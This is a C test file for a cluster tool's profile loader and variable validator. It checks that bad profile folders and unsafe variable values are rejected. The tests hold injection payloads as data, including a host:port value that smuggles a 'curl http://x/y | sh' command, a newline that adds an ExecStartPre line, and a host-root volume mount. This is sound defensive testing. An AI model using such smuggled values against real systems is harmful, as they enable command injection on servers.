/* test_profile.c - loading profile folders and checking a cluster's choice of profiles and vars. */
#include "../../server/profile.h"
#include "test.h"

#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <sys/stat.h>
#include <unistd.h>

static char srcdir[4096] = ".";

/* Finds the source tree: $KINDLING_SRCDIR, the current directory, or up from argv[0]. */
static void find_srcdir(const char *argv0)
{
	const char *env = getenv("KINDLING_SRCDIR");
	char probe[4200];

	if (env) {
		snprintf(srcdir, sizeof(srcdir), "%s", env);
		return;
	}
	if (access("templates/etcd/profile.json", R_OK) == 0)
		return;
	snprintf(srcdir, sizeof(srcdir), "%s", argv0);
	for (int up = 0; up < 6; up++) {
		char *slash = strrchr(srcdir, '/');
		if (!slash)
			break;
		*slash = '\0';
		snprintf(probe, sizeof(probe), "%s/templates/etcd/profile.json", srcdir);
		if (access(probe, R_OK) == 0)
			return;
	}
	snprintf(srcdir, sizeof(srcdir), ".");
}

static int rm_one(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)st;
	(void)flag;
	(void)ftw;
	return remove(path);
}

static void rm_rf(const char *dir)
{
	nftw(dir, rm_one, 16, FTW_DEPTH | FTW_PHYS);
}

/* Writes root/rel (creating directories), contents s. */
static void put(const char *root, const char *rel, const char *s)
{
	char path[4096];
	snprintf(path, sizeof(path), "%s/%s", root, rel);
	for (char *p = path + strlen(root) + 1; *p; p++) {
		if (*p == '/') {
			*p = '\0';
			mkdir(path, 0755);
			*p = '/';
		}
	}
	FILE *f = fopen(path, "w");
	if (!f) {
		fprintf(stderr, "  cannot write %s: %s\n", path, strerror(errno));
		return;
	}
	fputs(s, f);
	fclose(f);
}

static char *tmpdir(void)
{
	static char t[64];
	snprintf(t, sizeof(t), "/tmp/kindling-profile-XXXXXX");
	return mkdtemp(t);
}

static const char *good_json =
        "{\"description\": \"d\", \"variables\": {\"v\": {\"default\": \"x\"}}}";

/* A valid profile "p" under root: the base every bad case changes one thing of. */
static void put_good(const char *root)
{
	put(root, "p/profile.json", good_json);
	put(root, "p/systemd/a.service", "[Service]\nExecStart=/bin/true ${v}\n");
	put(root, "p/files/etc/a.conf", "a=${v}\n");
}

static enum kerr load1(const char *root, struct profile_set **ps, struct buf *msg)
{
	const char *dirs[] = {root};
	return profile_set_load(dirs, 1, ps, msg);
}

static void loads_the_shipped_profiles(void)
{
	char dir[4200];
	const char *dirs[] = {dir};
	struct profile_set *ps = NULL;
	struct buf msg;

	snprintf(dir, sizeof(dir), "%s/templates", srcdir);
	buf_init(&msg, 4096);
	CHECK_INT(profile_set_load(dirs, 1, &ps, &msg), K_OK);
	CHECK_STR(buf_str(&msg), "");
	CHECK(profile_exists(ps, "etcd"));
	CHECK(profile_exists(ps, "rabbitmq"));
	CHECK(!profile_exists(ps, "nope"));

	json_t *d = profile_set_describe(ps);
	char *s = json_dumps(d, JSON_COMPACT);
	/* in name order: etcd, etcd-v3, rabbitmq, report */
	json_t *p0 = json_array_get(json_object_get(d, "profiles"), 0);
	json_t *pv3 = json_array_get(json_object_get(d, "profiles"), 1);
	json_t *p1 = json_array_get(json_object_get(d, "profiles"), 2);
	json_t *prep = json_array_get(json_object_get(d, "profiles"), 3);
	CHECK_INT(json_array_size(json_object_get(d, "profiles")), 4);
	CHECK_STR(json_string_value(json_object_get(prep, "name")), "report");
	CHECK(profile_exists(ps, "report"));
	CHECK_STR(json_string_value(json_object_get(p0, "name")), "etcd");
	CHECK_STR(json_string_value(json_object_get(pv3, "name")), "etcd-v3");
	CHECK_STR(json_string_value(json_object_get(p1, "name")), "rabbitmq");
	CHECK_STR(json_string_value(json_array_get(json_object_get(p0, "units"), 0)),
	          "etcd-member.service");
	CHECK_STR(json_string_value(json_array_get(json_object_get(p1, "files"), 0)),
	          "/etc/rabbitmq/enabled_plugins");
	CHECK_INT(json_array_size(json_object_get(p1, "files")), 3);
	CHECK_INT(json_array_size(json_object_get(p1, "variables")), 5);
	json_t *v0 = json_array_get(json_object_get(p1, "variables"), 0);
	CHECK_STR(json_string_value(json_object_get(v0, "name")), "rabbitmq_admin_password");
	CHECK_STR(json_string_value(json_object_get(v0, "generate")), "secret");
	CHECK(json_is_null(json_object_get(v0, "default")));
	CHECK(json_is_false(json_object_get(v0, "required")));
	CHECK(strstr(s, "\"default\":\"docker.io/library/rabbitmq:3.10-management\"") != NULL);
	/* every shipped variable declares its rule, and GET /profiles shows it */
	static const char *const want_types[][3] = {
	        {"rabbitmq_admin_password", "secret", "255"},
	        {"rabbitmq_admin_user", "line", "255"},
	        {"rabbitmq_erlang_cookie", "secret", "255"},
	        {"rabbitmq_etcd_endpoint", "host_port", "300"},
	        {"rabbitmq_image", "image", "512"},
	};
	for (size_t i = 0; i < 5; i++) {
		json_t *v = json_array_get(json_object_get(p1, "variables"), i);
		CHECK_STR(json_string_value(json_object_get(v, "name")), want_types[i][0]);
		CHECK_STR(json_string_value(json_object_get(v, "type")), want_types[i][1]);
		CHECK_INT(json_integer_value(json_object_get(v, "max_length")),
		          atoi(want_types[i][2]));
		CHECK(json_is_string(json_object_get(v, "rule")));
	}
	json_t *cookie = json_array_get(json_object_get(p1, "variables"), 2);
	CHECK_STR(json_string_value(json_object_get(cookie, "pattern")), "[A-Za-z0-9]+");
	CHECK_STR(json_string_value(json_object_get(cookie, "rule")),
	          "a secret of one or more of A-Z a-z 0-9 . _ ~ + / = -, at most 255 bytes, "
	          "matching the pattern \"[A-Za-z0-9]+\" (all of it)");
	json_t *ep = json_array_get(json_object_get(p1, "variables"), 3);
	CHECK_STR(json_string_value(json_object_get(ep, "rule")),
	          "host:port (a host name, an IPv4 address or an [IPv6] address, then a port "
	          "1-65535), at most 300 bytes");
	/* the built-ins (all the etcd profiles use) with theirs */
	json_t *bi = json_object_get(d, "builtins");
	CHECK_INT(json_array_size(bi), 7);
	CHECK_STR(json_string_value(json_object_get(json_array_get(bi, 3), "name")),
	          "discovery_url");
	CHECK_STR(json_string_value(json_object_get(json_array_get(bi, 3), "type")), "url");
	CHECK_INT(json_integer_value(json_object_get(json_array_get(bi, 2), "max")), 99);
	free(s);
	json_decref(d);

	const struct profile *p = profile_get(ps, "rabbitmq");
	CHECK_INT(profile_item_count(p), 4);
	const struct profile_item *it = profile_item_at(p, 0);
	CHECK_INT(it->kind, PROFILE_UNIT);
	CHECK_STR(it->unit, "rabbitmq.service");
	it = profile_item_at(p, 3);
	CHECK_STR(it->path, "/var/lib/rabbitmq/.erlang.cookie");
	CHECK_INT(it->mode, 0400);
	CHECK_STR(it->user, "999");
	CHECK_STR(it->group, "999");
	CHECK_INT(profile_item_at(p, 1)->mode, 0644);
	CHECK(profile_item_at(p, 1)->user == NULL);

	p = profile_get(ps, "etcd");
	CHECK_INT(profile_unit_count(p), 1);
	CHECK_STR(profile_unit_at(p, 0)->name, "etcd-member.service");
	CHECK_INT(profile_unit_at(p, 0)->enabled, 1);
	CHECK(!profile_unit_at(p, 0)->has_contents);
	CHECK_INT(profile_item_at(p, 0)->kind, PROFILE_DROPIN);
	CHECK_STR(profile_item_at(p, 0)->dropin, "20-clct-etcd-member.conf");

	profile_set_free(&ps);
	CHECK(ps == NULL);
	profile_set_free(&ps);
	profile_set_free(NULL);
	buf_free(&msg);
}

static void later_dirs_replace_and_noise_is_skipped(void)
{
	char *a = tmpdir(), b[64];
	struct profile_set *ps = NULL;
	struct buf msg;

	snprintf(b, sizeof(b), "%s", a);
	a = tmpdir();
	buf_init(&msg, 4096);
	put_good(a);
	put(a, "README.md", "not a profile\n");
	put(a, ".git/config", "x");
	put(b, "p/profile.json", "{\"description\": \"second\"}");
	put(b, "p/systemd/b.service", "[Service]\nExecStart=/bin/true\n");
	const char *dirs[] = {a, b};
	CHECK_INT(profile_set_load(dirs, 2, &ps, &msg), K_OK);
	CHECK_STR(buf_str(&msg), "");
	const struct profile *p = profile_get(ps, "p");
	CHECK(p != NULL);
	if (p) {
		CHECK_INT(profile_item_count(p), 1);
		CHECK_STR(profile_item_at(p, 0)->unit, "b.service");
		CHECK_INT(profile_unit_at(p, 0)->enabled, -1);
		CHECK(profile_unit_at(p, 0)->has_contents);
	}
	profile_set_free(&ps);
	rm_rf(a);
	rm_rf(b);
	buf_free(&msg);
}

/* One bad profile: what to change in the good one, and what the message must contain. */
struct bad {
	const char *file;     /* written relative to root (NULL: none) */
	const char *contents; /* or one of the special actions below */
	const char *want1;
	const char *want2; /* a second fragment, or NULL */
};

#define SYMLINK_TO "@symlink:"
#define FIFO       "@fifo"
#define BIG        "@big"
#define MANY       "@many"
#define REMOVE     "@remove"
#define MANY_VARS  "@manyvars"

static void apply(const char *root, const struct bad *b)
{
	char path[4096];
	snprintf(path, sizeof(path), "%s/%s", root, b->file);
	if (strncmp(b->contents, SYMLINK_TO, strlen(SYMLINK_TO)) == 0) {
		put(root, b->file, "");
		unlink(path);
		if (symlink(b->contents + strlen(SYMLINK_TO), path) < 0)
			fprintf(stderr, "  symlink %s: %s\n", path, strerror(errno));
	} else if (strcmp(b->contents, FIFO) == 0) {
		put(root, b->file, "");
		unlink(path);
		mkfifo(path, 0644);
	} else if (strcmp(b->contents, REMOVE) == 0) {
		unlink(path);
	} else if (strcmp(b->contents, BIG) == 0) {
		char *s = malloc(PROFILE_TPL_MAX + 2);
		memset(s, 'x', PROFILE_TPL_MAX + 1);
		s[PROFILE_TPL_MAX + 1] = '\0';
		put(root, b->file, s);
		free(s);
	} else if (strcmp(b->contents, MANY) == 0) {
		for (int i = 0; i < PROFILE_ITEMS_MAX; i++) {
			char rel[64];
			snprintf(rel, sizeof(rel), "p/files/many/f%03d", i);
			put(root, rel, "x");
		}
	} else if (strcmp(b->contents, MANY_VARS) == 0) {
		char s[8192];
		size_t n = (size_t)snprintf(s, sizeof(s), "{\"variables\": {");
		for (int i = 0; i <= PROFILE_VARS_MAX; i++)
			n += (size_t)snprintf(s + n, sizeof(s) - n, "%s\"v%d\": {}", i ? "," : "",
			                      i);
		snprintf(s + n, sizeof(s) - n, "}}");
		put(root, b->file, s);
	} else {
		put(root, b->file, b->contents);
	}
}

static void rejects_bad_profiles(void)
{
	static const struct bad cases[] = {
	        {"p/README", "hi", "/p/README: unexpected file", NULL},
	        {"p/templates/x", "hi", "/p/templates: unexpected directory", NULL},
	        {"p/systemd/foo.conf", "[Unit]\n", "/p/systemd/foo.conf: not a unit name", NULL},
	        {"p/systemd/foo", "[Unit]\n", "/p/systemd/foo: not a unit name", NULL},
	        {"p/systemd/.service", "[Unit]\n", "/p/systemd/.service: not a unit name", NULL},
	        {"p/systemd/a b.service", "[Unit]\n", "/p/systemd/a b.service: not a unit name",
	         NULL},
	        {"p/systemd/a.service.d/10-x.txt", "[Unit]\n",
	         "/p/systemd/a.service.d/10-x.txt: a drop-in's name must end in .conf", NULL},
	        {"p/systemd/a.service.d/sub/x.conf", "[Unit]\n",
	         "/p/systemd/a.service.d/sub: a drop-in directory holds only files", NULL},
	        {"p/systemd/extra/x.conf", "[Unit]\n",
	         "/p/systemd/extra: a directory under systemd/", NULL},
	        {"p/systemd/b.service", "[Unit]\n\x01\xff\n",
	         "/p/systemd/b.service: a unit must be", NULL},
	        {"p/files/etc/link", SYMLINK_TO "/etc/passwd", "/p/files/etc/link: symbolic links",
	         NULL},
	        {"p/files/etc/up", SYMLINK_TO "../../../..", "/p/files/etc/up: symbolic links",
	         NULL},
	        {"p/systemd/l.service", SYMLINK_TO "a.service", "/p/systemd/l.service: symbolic",
	         NULL},
	        {"p/profile.json", SYMLINK_TO "/dev/null", "/p/profile.json: symbolic links", NULL},
	        {"p/files/etc/fifo", FIFO, "/p/files/etc/fifo: not a regular file", NULL},
	        {"p/profile.json", "{\n  \"description\": \"d\",\n  oops\n}",
	         "/p/profile.json:3: ", NULL},
	        {"p/profile.json", "{\"description\": \"a\",\n\"description\": \"b\"}",
	         "/p/profile.json:2: ", "duplicate"},
	        {"p/profile.json", "[]", "/p/profile.json: must be a JSON object", NULL},
	        {"p/profile.json", "{\"descripton\": \"typo\"}", "/p/profile.json: unknown key",
	         "\"descripton\""},
	        {"p/profile.json", "{\"variables\": {\"v\": {\"defualt\": \"x\"}}}",
	         "/p/profile.json: unknown key \"defualt\" in variables.v", NULL},
	        {"p/profile.json", "{\"variables\": {\"v\": {}}, \"units\": {\"b.service\": {}}}",
	         "/p/profile.json: units: \"b.service\" is not in the profile", NULL},
	        {"p/profile.json",
	         "{\"variables\": {\"v\": {}}, \"units\": {\"a.service\": "
	         "{\"enable\": true}}}",
	         "/p/profile.json: unknown key \"enable\" in units.a.service", NULL},
	        {"p/profile.json", "{\"variables\": {\"v\": {}}, \"files\": {\"/etc/b.conf\": {}}}",
	         "/p/profile.json: files: \"/etc/b.conf\" is not in the profile", NULL},
	        {"p/profile.json",
	         "{\"variables\": {\"v\": {}}, \"files\": {\"/etc/a.conf\": "
	         "{\"mode\": \"0999\"}}}",
	         "/p/profile.json: files./etc/a.conf.mode must be an octal string", NULL},
	        {"p/profile.json",
	         "{\"variables\": {\"v\": {}}, \"files\": {\"/etc/a.conf\": "
	         "{\"mode\": 420}}}",
	         "/p/profile.json: files./etc/a.conf.mode", NULL},
	        {"p/profile.json",
	         "{\"variables\": {\"v\": {}}, \"files\": {\"/etc/a.conf\": "
	         "{\"owner\": \"ro ot\"}}}",
	         "/p/profile.json: files./etc/a.conf.owner", NULL},
	        {"p/profile.json", "{\"variables\": {\"Bad\": {}}}",
	         "/p/profile.json: variables: invalid name \"Bad\"", NULL},
	        {"p/profile.json", "{\"variables\": {\"cluster_name\": {}}}",
	         "/p/profile.json: variables.cluster_name: a built-in", NULL},
	        {"p/profile.json",
	         "{\"variables\": {\"v\": {\"default\": \"x\", \"generate\": "
	         "\"secret\"}}}",
	         "/p/profile.json: variables.v: a generated secret", NULL},
	        {"p/profile.json", "{\"variables\": {\"v\": {\"generate\": \"password\"}}}",
	         "/p/profile.json: variables.v.generate", NULL},
	        {"p/profile.json", "{\"variables\": {\"v\": {\"required\": \"yes\"}}}",
	         "/p/profile.json: variables.v.required", NULL},
	        {"p/profile.json", "{\"variables\": {\"v\": {\"default\": \"a\\u0001\"}}}",
	         "/p/profile.json: variables.v: the default \"a?\" fails the variable's own rule: "
	         "must be one line (no control characters); got a control character (0x01) at "
	         "byte 1",
	         NULL},
	        /* rules: each names profile (its folder), variable and rule */
	        {"p/profile.json", "{\"variables\": {\"v\": {\"pattern\": \"a(\"}}}",
	         "/p/profile.json: variables.v.pattern: \"a(\" is not a POSIX extended regular "
	         "expression: Unmatched ( or \\(",
	         NULL},
	        {"p/profile.json", "{\"variables\": {\"v\": {\"pattern\": \"a)|(b)\"}}}",
	         "/p/profile.json: variables.v.pattern: \"a)|(b)\" is not a POSIX extended",
	         "unmatched ( or )"},
	        {"p/profile.json", "{\"variables\": {\"v\": {\"pattern\": 5}}}",
	         "/p/profile.json: variables.v.pattern must be a string", NULL},
	        {"p/profile.json", "{\"variables\": {\"v\": {\"type\": \"ipv4\"}}}",
	         "/p/profile.json: variables.v.type: unknown type \"ipv4\" (types: line, text, "
	         "word, hostname, host_port, url, image, secret, integer)",
	         NULL},
	        {"p/profile.json",
	         "{\"variables\": {\"v\": {\"type\": \"hostname\", \"default\": "
	         "\"a b\"}}}",
	         "/p/profile.json: variables.v: the default \"a b\" fails the variable's own rule: "
	         "must be a host name",
	         "got a space at byte 1"},
	        {"p/profile.json",
	         "{\"variables\": {\"v\": {\"pattern\": \"[0-9]+\", \"default\": "
	         "\"12x\"}}}",
	         "/p/profile.json: variables.v: the default \"12x\" fails the variable's own rule: "
	         "must match the pattern \"[0-9]+\" (all of it)",
	         NULL},
	        {"p/profile.json",
	         "{\"variables\": {\"v\": {\"max_length\": 3, \"default\": "
	         "\"abcd\"}}}",
	         "/p/profile.json: variables.v: the default \"abcd\" fails the variable's own "
	         "rule: must be at most 3 bytes; got 4",
	         NULL},
	        {"p/profile.json",
	         "{\"variables\": {\"v\": {\"enum\": [\"a\", \"b\"], \"default\": "
	         "\"c\"}}}",
	         "/p/profile.json: variables.v: the default \"c\" fails the variable's own rule: "
	         "must be one of \"a\", \"b\"",
	         NULL},
	        {"p/profile.json",
	         "{\"variables\": {\"v\": {\"type\": \"word\", \"enum\": [\"a\", "
	         "\"b c\"]}}}",
	         "/p/profile.json: variables.v: enum[1] \"b c\" fails the variable's own rule: "
	         "must "
	         "be one word",
	         NULL},
	        {"p/profile.json", "{\"variables\": {\"v\": {\"enum\": []}}}",
	         "/p/profile.json: variables.v.enum must be a list of 1 to 256 strings", NULL},
	        {"p/profile.json", "{\"variables\": {\"v\": {\"max_length\": 0}}}",
	         "/p/profile.json: variables.v.max_length must be a whole number from 1 to 65536",
	         NULL},
	        {"p/profile.json", "{\"variables\": {\"v\": {\"max_length\": 65537}}}",
	         "/p/profile.json: variables.v.max_length must be", NULL},
	        {"p/profile.json", "{\"variables\": {\"v\": {\"min\": 1}}}",
	         "/p/profile.json: variables.v.min needs \"type\": \"integer\"", NULL},
	        {"p/profile.json",
	         "{\"variables\": {\"v\": {\"type\": \"integer\", \"min\": 5, "
	         "\"max\": 1}}}",
	         "/p/profile.json: variables.v: min is above max", NULL},
	        {"p/profile.json",
	         "{\"variables\": {\"v\": {\"type\": \"integer\", \"min\": 1, "
	         "\"max\": 9, \"default\": \"10\"}}}",
	         "/p/profile.json: variables.v: the default \"10\" fails the variable's own rule: "
	         "must be a whole number from 1 to 9",
	         NULL},
	        {"p/profile.json",
	         "{\"variables\": {\"v\": {\"generate\": \"secret\", \"pattern\": "
	         "\"[0-9]+\"}}}",
	         "/p/profile.json: variables.v: a generated secret (32 random characters of A-Z "
	         "a-z "
	         "0-9) does not satisfy the variable's own rule: one line",
	         "matching the pattern \"[0-9]+\""},
	        {"p/profile.json",
	         "{\"variables\": {\"v\": {\"generate\": \"secret\", \"type\": "
	         "\"secret\", \"max_length\": 16}}}",
	         "/p/profile.json: variables.v: a generated secret", "at most 16 bytes"},
	        {"p/profile.json", "{\"variables\": {\"v\": {\"type\": \"text\"}}}",
	         "/p/systemd/a.service:2: ${v} is of type text (several lines) and cannot be used "
	         "in a systemd unit",
	         NULL},
	        {"p/files/etc/b.conf", "x=${v|shell}\n",
	         "/p/files/etc/b.conf:1: unknown filter \"shell\" in \"${v|shell}\"", NULL},
	        {"p/profile.json",
	         "{\"variables\": {\"v\": {}}, \"files\": {\"/etc/a.conf\": {\"context\": "
	         "\"yaml\"}}}",
	         "/p/profile.json: files./etc/a.conf.context must be \"raw\", \"systemd\", \"sh\" "
	         "or \"json\"",
	         NULL},
	        {"p/profile.json",
	         "{\"variables\": {\"v\": {\"type\": \"text\"}}, \"files\": {\"/etc/a.conf\": "
	         "{\"context\": \"systemd\"}}}",
	         "/p/files/etc/a.conf:1: ${v} is of type text", NULL},

	        {"p/profile.json", MANY_VARS, "/p/profile.json: more than 64 variables", NULL},
	        {"p/profile.json", REMOVE, "/p/profile.json: missing", NULL},
	        {"p/files/etc/b.conf", "line 1\nline 2 ${nope}\n",
	         "/p/files/etc/b.conf:2: unknown variable ${nope}", NULL},
	        {"p/systemd/a.service.d/10-x.conf", "[Service]\nEnvironment=IP=${COREOS_IP}\n",
	         "/p/systemd/a.service.d/10-x.conf:2: invalid variable reference", "$${"},
	        {"p/systemd/b.service", "[Service]\n\n\nExecStart=/bin/echo ${v\n",
	         "/p/systemd/b.service:4: unterminated", NULL},
	        {"p/files/big", BIG, "/p/files/big: larger than 262144 bytes", NULL},
	        {"p/files/x", MANY, "/p: more than 256 templates", NULL},
	        {"Bad_Name/profile.json", "{}", "/Bad_Name: invalid profile name", NULL},
	        {"-x/profile.json", "{}", "/-x: invalid profile name", NULL},
	};
	struct buf msg;

	buf_init(&msg, 8192);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char *root = tmpdir();
		struct profile_set *ps = NULL;
		put_good(root);
		apply(root, &cases[i]);
		buf_reset(&msg);
		enum kerr e = load1(root, &ps, &msg);
		bool ok = e == K_EINVAL && ps == NULL && strstr(buf_str(&msg), cases[i].want1) &&
		          strstr(buf_str(&msg), root) &&
		          (!cases[i].want2 || strstr(buf_str(&msg), cases[i].want2));
		if (!ok) {
			fprintf(stderr, "  case %zu (%s): rc %d, message \"%s\", want \"%s\"\n", i,
			        cases[i].file, e, buf_str(&msg), cases[i].want1);
			CHECK(0);
		}
		profile_set_free(&ps);
		rm_rf(root);
	}

	/* A symlinked profile folder and a missing templates dir. */
	char *root = tmpdir();
	struct profile_set *ps = NULL;
	char link[128];
	put_good(root);
	snprintf(link, sizeof(link), "%s/q", root);
	CHECK(symlink("p", link) == 0);
	buf_reset(&msg);
	CHECK_INT(load1(root, &ps, &msg), K_EINVAL);
	CHECK(strstr(buf_str(&msg), "/q: symbolic links") != NULL);
	rm_rf(root);
	buf_reset(&msg);
	CHECK_INT(load1("/nonexistent/templates", &ps, &msg), K_EINVAL);
	CHECK(strstr(buf_str(&msg), "/nonexistent/templates: No such file") != NULL);
	CHECK(ps == NULL);

	/* The good base itself loads (so every case above failed for its own reason). */
	root = tmpdir();
	put_good(root);
	buf_reset(&msg);
	CHECK_INT(load1(root, &ps, &msg), K_OK);
	CHECK_STR(buf_str(&msg), "");
	profile_set_free(&ps);
	rm_rf(root);
	buf_free(&msg);
}

/* ---- profile_check ---- */

static struct profile_set *check_set;

/* Runs profile_check on JSON texts; returns the errors as compact JSON (static). */
static const char *check(const char *profiles, const char *vars, enum kerr *out_e)
{
	static char res[8192];
	json_t *p = json_loads(profiles, JSON_DECODE_ANY, NULL);
	json_t *v = vars ? json_loads(vars, JSON_DECODE_ANY | JSON_ALLOW_NUL, NULL) : NULL;
	json_t *errors = json_array();
	*out_e = profile_check(check_set, p, v, errors);
	char *s = json_dumps(errors, JSON_COMPACT);
	snprintf(res, sizeof(res), "%s", s);
	free(s);
	json_decref(p);
	json_decref(v);
	json_decref(errors);
	return res;
}

static void expect_check(const char *profiles, const char *vars, const char *want)
{
	enum kerr e;
	const char *got = check(profiles, vars, &e);
	if (want == NULL) {
		if (e != K_OK || strcmp(got, "[]") != 0) {
			fprintf(stderr, "  check(%s, %s) = %d %s, want ok\n", profiles,
			        vars ? vars : "NULL", e, got);
			CHECK(0);
		}
		return;
	}
	if (e != K_EINVAL || !strstr(got, want)) {
		fprintf(stderr, "  check(%s, %.80s) = %d %s, want %s\n", profiles,
		        vars ? vars : "NULL", e, got, want);
		CHECK(0);
	}
}

static void checks_choices(void)
{
	char *root = tmpdir(), dir[4200];
	const char *dirs[] = {dir, root};
	struct buf msg;

	snprintf(dir, sizeof(dir), "%s/templates", srcdir);
	put(root, "req/profile.json", "{\"variables\": {\"token\": {\"required\": true}}}");
	put(root, "req/files/etc/token", "${token}");
	put(root, "clash/profile.json",
	    "{\"units\": {\"rabbitmq.service\": {\"enabled\": false}}}");
	put(root, "clash/systemd/rabbitmq.service.d/10-x.conf", "[Service]\nNice=5\n");
	put(root, "clash2/profile.json", "{}");
	put(root, "clash2/files/etc/rabbitmq/enabled_plugins", "[].\n");
	put(root, "mask/profile.json", "{\"units\": {\"etcd-member.service\": {\"mask\": true}}}");
	put(root, "mask/systemd/etcd-member.service.d/x.conf", "[Unit]\n");
	char wide[1024];
	for (int i = 0; i < 70; i++)
		memcpy(wide + 5 * i, "${v}\n", 5);
	wide[350] = '\0';
	put(root, "wide/profile.json", "{\"variables\": {\"v\": {\"max_length\": 65536}}}");
	put(root, "wide/files/etc/wide", wide);
	/* a variable a unit writes into a plain setting (Description=) as is */
	put(root, "setting/profile.json", "{\"variables\": {\"d\": {\"default\": \"x\"}}}");
	put(root, "setting/systemd/s.service",
	    "[Unit]\nDescription=${d}\n[Service]\nExecStart=/bin/echo ${d}\n");
	/* a second declaration of rabbitmq_admin_user with a stricter rule */
	put(root, "strict/profile.json",
	    "{\"variables\": {\"rabbitmq_admin_user\": {\"enum\": [\"admin\", \"ops\"]}}}");
	put(root, "strict/files/etc/strict", "${rabbitmq_admin_user}\n");
	put(root, "num/profile.json",
	    "{\"variables\": {\"n\": {\"type\": \"integer\", \"min\": -5, \"max\": 5}, "
	    "\"h\": {\"type\": \"hostname\"}, \"u\": {\"type\": \"url\"}, \"w\": {\"type\": "
	    "\"word\"}, \"t\": {\"type\": \"text\"}}}");
	put(root, "num/files/etc/num", "${n} ${h} ${u} ${w} ${t}\n");
	buf_init(&msg, 4096);
	CHECK_INT(profile_set_load(dirs, 2, &check_set, &msg), K_OK);
	CHECK_STR(buf_str(&msg), "");

	expect_check("[\"etcd\"]", NULL, NULL);
	expect_check("[\"etcd\", \"rabbitmq\"]", "{}", NULL);
	expect_check("[]", NULL, NULL);
	expect_check("[\"etcd\",\"rabbitmq\"]",
	             "{\"rabbitmq_image\": \"quay.io/x/rabbitmq:3.12\", \"rabbitmq_admin_user\": "
	             "\"ops\", \"rabbitmq_erlang_cookie\": \"mine\"}",
	             NULL);

	/* issue 12 item 7, attack 1: a newline in rabbitmq_admin_user adds keys to rabbitmq.conf */
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_user\": \"admin\\ndefault_pass = x\"}",
	             "{\"field\":\"vars.rabbitmq_admin_user\",\"message\":\"must be one line (no "
	             "control characters); got a newline at byte 5\"}");
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_user\": \"a\\nb\\tc\"}",
	             "got a newline at byte 1");
	/* attack 2: a quote in rabbitmq_etcd_endpoint closes the sh -c '...' of ExecStartPre */
	expect_check(
	        "[\"rabbitmq\"]",
	        "{\"rabbitmq_etcd_endpoint\": \"127.0.0.1:2379'; curl http://x/y | sh; '\"}",
	        "{\"field\":\"vars.rabbitmq_etcd_endpoint\",\"message\":\"must be host:port (a "
	        "host name, an IPv4 address or an [IPv6] address, then a port 1-65535); got "
	        "a single quote at byte 14\"}");
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_etcd_endpoint\": \"127.0.0.1\"}",
	             "\"message\":\"must be host:port");
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_etcd_endpoint\": \"etcd:65536\"}",
	             "\"message\":\"must be host:port");
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_etcd_endpoint\": \"[fe80::1]:2379\"}", NULL);
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_etcd_endpoint\": \"etcd.internal:2379\"}",
	             NULL);
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_etcd_endpoint\": \"[fe80::zz]:2379\"}",
	             "\"message\":\"must be host:port");
	/* attack 3: systemd specifiers, $VAR and extra words in rabbitmq_image */
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": \"docker.io/x:%H\"}",
	             "{\"field\":\"vars.rabbitmq_image\",\"message\":\"must be an OCI image "
	             "reference ([registry[:port]/]path[:tag][@sha256:64 hex digits]; path "
	             "components of a-z 0-9 joined by . _ __ or -); got '%' at byte 12\"}");
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": \"x$VAR\"}", "got '$' at byte 1");
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": \"x -v /:/host evil\"}",
	             "got a space at byte 1");
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": \"x\\nExecStartPre=/bin/evil\"}",
	             "got a newline at byte 1");
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": \"x\\\\\"}",
	             "got a backslash at byte 1");
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": \"Docker.io/x\"}", NULL);
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": \"UPPER\"}",
	             "\"message\":\"must be an OCI image reference");
	expect_check("[\"rabbitmq\"]",
	             "{\"rabbitmq_image\": \"localhost:5000/a/b-c__d.e:v1.2_x@sha256:"
	             "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\"}",
	             NULL);
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": \"x@sha256:0123\"}",
	             "\"message\":\"must be an OCI image reference");
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": \"x:-bad\"}",
	             "\"message\":\"must be an OCI image reference");
	/* attack 4: a newline in the one-line Erlang cookie file */
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_erlang_cookie\": \"abc\\ndef\"}",
	             "{\"field\":\"vars.rabbitmq_erlang_cookie\",\"message\":\"must be a secret "
	             "of one or more of A-Z a-z 0-9 . _ ~ + / = -; got a character outside that "
	             "set at byte 3\"}");
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_erlang_cookie\": \"a-b\"}",
	             "\"message\":\"must match the pattern \\\"[A-Za-z0-9]+\\\" (all of it)\"");
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_erlang_cookie\": \"\"}",
	             "\"message\":\"must be a secret");
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_password\": \"pa ss\"}",
	             "got a character outside that set at byte 2\"");
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_password\": \"Tr0ub4dor+3/x=\"}", NULL);

	/* other rules */
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_user\": \"x'); DROP TABLE clusters;--\"}",
	             NULL);
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_user\": \"h\\u00e9 \\u20ac\"}", NULL);
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_user\": \"a\\u0007\"}",
	             "{\"field\":\"vars.rabbitmq_admin_user\",\"message\":\"must be one line (no "
	             "control characters); got a control character (0x07) at byte 1\"}");
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_user\": \"a\\u0000b\"}",
	             "got a NUL byte at byte 1");
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_user\": \"a\\r\"}",
